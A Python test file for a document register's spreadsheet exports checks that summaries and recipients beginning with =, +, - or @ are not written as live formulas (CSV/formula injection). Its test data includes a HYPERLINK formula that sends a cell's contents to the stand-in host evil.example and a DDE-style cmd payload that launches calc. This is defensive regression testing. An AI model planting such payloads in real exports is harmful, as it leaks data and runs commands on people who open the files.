"""The register's exports write a document's summary and recipients as they are: a summary
beginning with "=" (typed by a drafter, or pasted from a ministry's text) becomes a live
formula in the .xlsx and a formula cell in the .csv opened in Excel (CSV/formula injection).
A cell beginning with = + - @ should be written as text (or prefixed with ')."""

import csv
import io

from openpyxl import load_workbook

from tests.decisions.conftest import headers
from tests.decisions.test_register_book import _issued

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A4,"Xem chi tiết")'


def test_xlsx_summary_is_not_a_formula(app, client, people):
    _issued(app, people, 1, summary=PAYLOAD, recipients="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client.get("/api/v1/register?year=2026&format=xlsx",
                          headers=headers(people, "clerk"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    row = [cell for cell in sheet[4]]
    summary = row[3]
    assert summary.data_type != "f", f"the summary is stored as a formula: {summary.value!r}"


def test_csv_cells_cannot_start_a_formula(app, client, people):
    _issued(app, people, 1, summary=PAYLOAD)
    response = client.get("/api/v1/register?year=2026&format=csv",
                          headers=headers(people, "clerk"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert not rows[1][3].startswith(("=", "+", "-", "@")), rows[1][3]
